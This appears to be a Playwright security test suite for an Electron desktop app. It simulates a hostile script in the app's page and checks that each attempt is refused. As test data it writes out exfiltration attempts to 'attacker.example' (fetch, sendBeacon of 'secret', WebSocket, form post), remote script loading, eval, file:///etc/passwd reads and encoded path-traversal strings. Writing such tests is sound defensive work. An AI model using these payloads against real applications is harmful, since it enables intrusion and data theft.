import path from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page } from 'playwright';
import type { RunningApp } from '../support/app';
import { expectRefusal, openedLinks, recordOpenedLinks, ruleAgainst } from '../support/hostilePage';
import { expect, test } from '../support/test';

// Each of these runs in our own page, as if somebody else's script had got into it.

/** Starts the app and marks its page, so that a page in its place would show. */
const open = async (launch: () => Promise<RunningApp>) => {
  const app = await launch();
  await expect(app.page.getByRole('button', { name: 'Entrar' })).toBeVisible();
  await app.page.evaluate(() => Reflect.set(window, 'isOurs', true));
  return app;
};

const expectSamePage = async ({ application, page }: RunningApp) => {
  expect(page.url()).toBe('smartspace-app://bundle/login.pt-BR.html');
  expect(await page.evaluate(() => Reflect.get(window, 'isOurs') as unknown)).toBe(true);
  expect(await application.evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(1);
};

/** What an expression that throws or rejects is refused with. Runs in a task of its own, as scripts of a page do. */
const refusalOf = (page: Page, attempt: () => unknown): Promise<unknown> =>
  page.evaluate(`new Promise((resolve) => {
    setTimeout(() => {
      new Promise((settle) => settle((${attempt.toString()})()))
        .then((value) => resolve({ allowed: String(value) }), (error) => resolve(error.name));
    });
  })`);

test.describe('leaving our page', () => {
  const navigations: readonly (readonly [name: string, attempt: () => void])[] = [
    [
      'by its location',
      () => {
        location.href = 'https://attacker.example/';
      },
    ],
    [
      'by a link',
      () => {
        const link = document.createElement('a');
        link.href = 'https://attacker.example/';
        document.body.append(link);
        link.click();
      },
    ],
    [
      'to another page of our own',
      () => {
        location.href = 'smartspace-app://bundle/shell.pt-BR.html';
      },
    ],
    [
      'to another host of our scheme',
      () => {
        location.href = 'smartspace-app://other/login.pt-BR.html';
      },
    ],
    [
      'to the scheme of our links',
      () => {
        location.href = 'smartspace://reset-password?token=made-up-token-of-nobody';
      },
    ],
    [
      'by mailto',
      () => {
        location.href = 'mailto:someone@attacker.example';
      },
    ],
  ];
  for (const [name, attempt] of navigations) {
    test(`${name} is refused`, async ({ launch, profile }) => {
      const app = await open(launch);
      await recordOpenedLinks(app);
      await expectRefusal(profile, 'navigation', () => app.page.evaluate(attempt));
      await expectSamePage(app);
      expect(await openedLinks(app)).toEqual([]);
    });
  }

  test('to a file, to data or by a script address comes to nothing', async ({ launch, profile }) => {
    const app = await open(launch);
    for (const address of ['file:///etc/passwd', 'data:text/html,taken', 'javascript:document.body.remove()']) {
      await app.page.evaluate((target) => {
        location.href = target;
      }, address);
    }
    // These leave no trace in main; the one after them does, and comes after them.
    await expectRefusal(profile, 'navigation', () =>
      app.page.evaluate(() => {
        location.href = 'https://attacker.example/';
      }),
    );
    await expectSamePage(app);
    expect(await app.page.evaluate(() => document.body.innerText)).toContain('Entrar');
  });

  test('by a form is refused by the content policy', async ({ launch }) => {
    const app = await open(launch);
    const rule = await ruleAgainst(app.page, () => {
      const form = document.createElement('form');
      form.action = 'https://attacker.example/';
      form.method = 'post';
      document.body.append(form);
      form.submit();
    });
    expect(rule).toBe('enforce form-action');
    await expectSamePage(app);
  });
});

test.describe('new windows', () => {
  test('open nothing; https, mailto and tel go to the operating system, and nothing else does', async ({
    launch,
    profile,
  }) => {
    const app = await open(launch);
    await recordOpenedLinks(app);
    const allowed = ['https://www.aurora.example/ajuda', 'mailto:ajuda@aurora.example', 'tel:+551140000101'];
    const refused = [
      'http://www.aurora.example/',
      'smartspace://reset-password?token=made-up-token-of-nobody',
      'smartspace-app://bundle/login.pt-BR.html',
      'https://someone:secret@www.aurora.example/',
      'vscode://open',
      'about:blank',
    ];
    for (const link of [...refused, ...allowed]) {
      await expectRefusal(profile, 'window', () =>
        app.page.evaluate((target) => {
          window.open(target);
        }, link),
      );
    }
    // These get no further than the page itself.
    for (const link of ['javascript:document.body.remove()', 'file:///etc/passwd']) {
      await app.page.evaluate((target) => {
        window.open(target);
      }, link);
    }
    await expectRefusal(profile, 'window', () =>
      app.page.evaluate(() => {
        const link = document.createElement('a');
        link.href = 'https://www.aurora.example/alvo';
        link.target = '_blank';
        document.body.append(link);
        link.click();
      }),
    );
    expect(await openedLinks(app)).toEqual([...allowed, 'https://www.aurora.example/alvo']);
    await expectSamePage(app);
  });

  test('the door opens the same links, and tells of those it refuses', async ({ launch }) => {
    const app = await open(launch);
    await recordOpenedLinks(app);
    const ask = (link: string) => app.page.evaluate((target) => window.desktop.openLink({ link: target }), link);
    expect(await ask('https://www.aurora.example/ajuda')).toBe(true);
    for (const link of ['javascript:alert(1)', 'file:///etc/passwd', 'http://aurora.example', 'smartspace://x', 'x']) {
      expect(await ask(link)).toBe(false);
    }
    expect(await openedLinks(app)).toEqual(['https://www.aurora.example/ajuda']);
  });
});

test.describe('the content policy refuses', () => {
  const attempts: readonly (readonly [name: string, rule: string, attempt: () => unknown])[] = [
    [
      'a frame from elsewhere',
      'frame-src',
      () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://attacker.example/';
        document.body.append(frame);
      },
    ],
    [
      'a frame of our own page',
      'frame-src',
      () => {
        const frame = document.createElement('iframe');
        frame.src = 'smartspace-app://bundle/login.pt-BR.html';
        document.body.append(frame);
      },
    ],
    [
      'an object',
      'object-src',
      () => {
        const object = document.createElement('object');
        object.data = 'https://attacker.example/movie';
        document.body.append(object);
      },
    ],
    [
      'an embedded document',
      'object-src',
      () => {
        const embed = document.createElement('embed');
        embed.src = 'https://attacker.example/movie';
        document.body.append(embed);
      },
    ],
    [
      'an inline script',
      'script-src-elem',
      () => {
        const script = document.createElement('script');
        script.textContent = 'window.isTaken = true';
        document.body.append(script);
      },
    ],
    [
      'a script from elsewhere',
      'script-src-elem',
      () => {
        const script = document.createElement('script');
        script.src = 'https://attacker.example/script.js';
        document.body.append(script);
      },
    ],
    [
      'a script made of data',
      'script-src-elem',
      () => {
        const script = document.createElement('script');
        script.src = 'data:text/javascript,window.isTaken=true';
        document.body.append(script);
      },
    ],
    [
      'an inline event handler',
      'script-src-attr',
      () => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.isTaken = true');
        document.body.append(button);
        button.click();
      },
    ],
    [
      'an inline style',
      'style-src-elem',
      () => {
        const style = document.createElement('style');
        style.textContent = 'body { background: url(https://attacker.example/seen) }';
        document.head.append(style);
      },
    ],
    ['a request elsewhere', 'connect-src', () => void fetch('https://attacker.example/').catch(() => undefined)],
    [
      'a request to another host of our scheme',
      'connect-src',
      () => void fetch('smartspace-app://other/login.pt-BR.html').catch(() => undefined),
    ],
    ['a request for a file', 'connect-src', () => void fetch('file:///etc/passwd').catch(() => undefined)],
    ['a socket', 'connect-src', () => new WebSocket('wss://attacker.example/').url],
    ['a stream of events', 'connect-src', () => new EventSource('https://attacker.example/').url],
    ['a beacon', 'connect-src', () => navigator.sendBeacon('https://attacker.example/', 'secret')],
    [
      'a picture from elsewhere',
      'img-src',
      () => {
        new Image().src = 'https://attacker.example/seen.png';
      },
    ],
    [
      'another base address',
      'base-uri',
      () => {
        const base = document.createElement('base');
        base.href = 'https://attacker.example/';
        document.head.append(base);
      },
    ],
  ];
  for (const [name, rule, attempt] of attempts) {
    test(name, async ({ launch }) => {
      const app = await open(launch);
      expect(await ruleAgainst(app.page, attempt)).toBe(`enforce ${rule}`);
      expect(await app.page.evaluate(() => Reflect.has(window, 'isTaken'))).toBe(false);
      await expectSamePage(app);
    });
  }

  test('a picture from a file', async ({ launch }) => {
    const { page } = await open(launch);
    const show = (address: string) =>
      page.evaluate(
        (source) =>
          new Promise((resolve) => {
            const image = new Image();
            image.onload = () => {
              resolve('shown');
            };
            image.onerror = () => {
              resolve('refused');
            };
            image.src = source;
          }),
        address,
      );
    expect(await show('data:image/gif;base64,R0lGODlhAQABAAAAACH5BAAAAAAALAAAAAABAAEAAAICTAEAOw==')).toBe('shown');
    expect(await show(pathToFileURL(path.resolve('resources/icon.png')).href)).toBe('refused');
  });

  test('code made of text', async ({ launch }) => {
    const { page } = await open(launch);
    const evaluate = () => (Reflect.get(globalThis, 'eval') as (text: string) => unknown)('1 + 1');
    const work = () => new Worker('data:text/javascript,postMessage(1 + 1)');
    const construct = () => (Reflect.construct(Function, ['return 1 + 1']) as () => unknown)();
    expect(await refusalOf(page, evaluate)).toBe('EvalError');
    expect(await refusalOf(page, construct)).toBe('EvalError');
    expect(await refusalOf(page, work)).toBe('SecurityError');
    // What is not refused is told apart from what is.
    expect(await refusalOf(page, () => 1 + 1)).toEqual({ allowed: '2' });
  });
});

test('a webview is an unknown element and loads nothing', async ({ launch }) => {
  const app = await open(launch);
  const kind = await app.page.evaluate(() => {
    const view = document.createElement('webview');
    view.setAttribute('src', 'https://attacker.example/');
    document.body.append(view);
    return `${view.constructor.name} ${String('getWebContentsId' in view)}`;
  });
  expect(kind).toMatch(/^HTML(Unknown)?Element false$/);
  await expectSamePage(app);
});

test('a frame without an address has no door', async ({ launch }) => {
  const { page } = await open(launch);
  const door = await page.evaluate(() => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return String(Reflect.get(frame.contentWindow ?? {}, 'desktop') as unknown);
  });
  expect(door).toBe('undefined');
});

test('no path leads out of the folder with our pages', async ({ launch }) => {
  const { page } = await open(launch);
  const statusOf = (address: string) => page.evaluate(async (target) => (await fetch(target)).status, address);
  expect(await statusOf('smartspace-app://bundle/login.en.html')).toBe(200);
  for (const path of [
    '/../main/index.js',
    '/%2e%2e/main/index.js',
    '/..%2fmain/index.js',
    '/%2e%2e%2fmain%2findex.js',
    '/..%5cmain%5cindex.js',
    '/assets/..%2f..%2fmain/index.js',
    '//etc/passwd.json',
    '/%2fetc/passwd.json',
    '/%00login.en.html',
    '/missing.js',
    '/',
  ]) {
    expect(await statusOf(`smartspace-app://bundle${path}`), path).toBe(404);
  }
});

test('a service worker can not be registered', async ({ launch }) => {
  const { page } = await open(launch);
  const refusal = await refusalOf(page, () => {
    const workers = Reflect.get(navigator, 'serviceWorker') as ServiceWorkerContainer | undefined;
    if (workers === undefined) throw new TypeError('There are none');
    return workers.register('smartspace-app://bundle/assets/worker.js');
  });
  expect(['TypeError', 'SecurityError', 'NotSupportedError']).toContain(refusal);
});
